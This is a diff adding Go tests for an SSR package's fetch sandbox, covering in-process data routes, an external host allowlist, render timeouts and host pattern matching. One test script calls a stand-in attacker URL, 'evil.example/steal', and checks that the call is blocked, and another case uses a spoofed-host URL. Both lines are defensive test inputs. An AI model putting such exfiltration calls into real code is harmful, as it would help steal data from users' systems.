@@ -0,0 +1,114 @@
+package gossr
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/gin-gonic/gin"
+)
+
+func TestRunBlockingFetchShortCircuitsSSRData(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	withTestSSREngine(t, func(engine *gin.Engine) {
+		engine.GET("/hello", WrapSSR(func(c *gin.Context) (SSRPayload, error) {
+			cookie, _ := c.Cookie("theme")
+			return mapPayload{"q": c.Query("q"), "theme": cookie, "trace": c.GetHeader("X-Trace")}, nil
+		}))
+	})
+
+	router := testRouterWithRunBlocking(`globalThis.ssrRender = async function(url) {
+		const data = await (await fetch("/_ssr/data/hello?q=1", { headers: { "X-Trace": "t1" } })).json()
+		const missing = await fetch("http://example.com/_ssr/data/missing")
+		return [data.q, data.theme, data.trace, data.siteOrigin, missing.status].join("|")
+	}`)
+
+	w := performRequest(router, http.MethodGet, "/page", func(req *http.Request) {
+		req.AddCookie(&http.Cookie{Name: "theme", Value: "dark"})
+	})
+
+	if !strings.Contains(w.Body.String(), "1|dark|t1|http://example.com|404") {
+		t.Fatalf("expected in-process /_ssr/data response, got %s", w.Body.String())
+	}
+}
+
+func TestRunBlockingFetchExternalAllowlist(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+
+	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/slow" {
+			select {
+			case <-r.Context().Done():
+			case <-time.After(5 * time.Second):
+			}
+			return
+		}
+		w.Header().Set("Content-Type", "application/json")
+		_, _ = w.Write([]byte(`{"method":"` + r.Method + `"}`))
+	}))
+	defer api.Close()
+
+	apiURL, _ := url.Parse(api.URL)
+	script := `globalThis.ssrRender = async function(url) {
+		const target = "` + api.URL + `"
+		if (url === "/slow") {
+			await fetch(target + "/slow")
+			return "finished"
+		}
+		let denied = ""
+		try { await fetch("https://evil.example/steal") } catch (err) { denied = err.message }
+		const resp = await fetch(target + "/echo", { method: "POST", body: "x" })
+		return (await resp.text()) + "|" + denied
+	}`
+
+	router := testRouterWithRunBlocking(script,
+		WithFetch(FetchOptions{AllowedHosts: []string{apiURL.Host}}),
+		WithRenderTimeout(200*time.Millisecond),
+	)
+
+	w := performRequest(router, http.MethodGet, "/page", nil)
+	body := w.Body.String()
+	if !strings.Contains(body, `"method":"POST"`) {
+		t.Fatalf("expected allowlisted fetch to reach api, got %s", body)
+	}
+	if !strings.Contains(body, "fetch failed: fetch to evil.example is not allowed") {
+		t.Fatalf("expected non-allowlisted host to be rejected, got %s", body)
+	}
+
+	start := time.Now()
+	var slow *httptest.ResponseRecorder
+	captureLogOutput(t, func() {
+		slow = performRequest(router, http.MethodGet, "/slow", nil)
+	})
+	if elapsed := time.Since(start); elapsed > 2*time.Second {
+		t.Fatalf("expected fetch to respect render deadline, took %s", elapsed)
+	}
+	if strings.Contains(slow.Body.String(), "finished") || !strings.Contains(slow.Body.String(), `name="ssr-error-id"`) {
+		t.Fatalf("expected fallback page after timeout, got %s", slow.Body.String())
+	}
+}
+
+func TestSSRFetcherAllowsHostPatterns(t *testing.T) {
+	f := newSSRFetcher(newOptions(WithFetch(FetchOptions{
+		AllowedHosts: []string{" API.example.com ", "*.cdn.example.com", "127.0.0.1:8080"},
+	})))
+
+	tests := map[string]bool{
+		"https://api.example.com/v1":     true,
+		"https://img.cdn.example.com/a":  true,
+		"https://cdn.example.com/a":      false,
+		"http://127.0.0.1:8080/":         true,
+		"http://127.0.0.1:9090/":         false,
+		"ftp://api.example.com/file":     false,
+		"https://api.example.com.evil/x": false,
+	}
+	for raw, want := range tests {
+		u, _ := url.Parse(raw)
+		if got := f.allows(u); got != want {
+			t.Fatalf("allows(%q)=%v want %v", raw, got, want)
+		}
+	}
+}